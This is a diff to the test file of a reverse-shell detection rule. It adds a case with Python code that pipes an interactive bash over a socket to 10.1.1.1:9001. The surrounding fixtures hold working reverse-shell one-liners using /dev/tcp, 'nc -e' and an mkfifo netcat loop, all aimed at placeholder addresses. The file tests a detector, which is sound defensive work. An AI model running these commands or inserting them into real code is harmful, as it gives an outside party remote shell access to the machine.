@@ -28,6 +28,11 @@ ruleTester(reverseShell, {
       code: 'import socket, subprocess\ns = socket.create_connection((h, p))\nsubprocess.Popen(["/bin/sh"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n',
       errors: [{ severity: 'critical', message: 'with a socket as its streams' }],
     },
+    {
+      name: 'the socket object itself as the streams, under module aliases',
+      code: 'import socket as S, subprocess as P\ns = S.socket(S.AF_INET, S.SOCK_STREAM)\ns.connect(("10.1.1.1", 9001))\nP.Popen(["/bin/bash", "-i"], stdin=s, stdout=s, stderr=s)\n',
+      errors: [{ severity: 'critical', message: 'subprocess.Popen at line 4, column 1 starts a shell with a socket as its streams' }],
+    },
     { name: 'bash /dev/tcp', code: "import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n", errors: [{ severity: 'critical', message: '/dev/tcp' }] },
     { name: 'nc -e', code: "import os\nos.system('nc -e /bin/sh 10.0.0.1 4444')\n", errors: [{ severity: 'critical', message: 'netcat' }] },
     { name: 'mkfifo loop', code: "import os\nos.system('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f')\n", errors: [{ severity: 'critical', message: 'named pipe' }] },
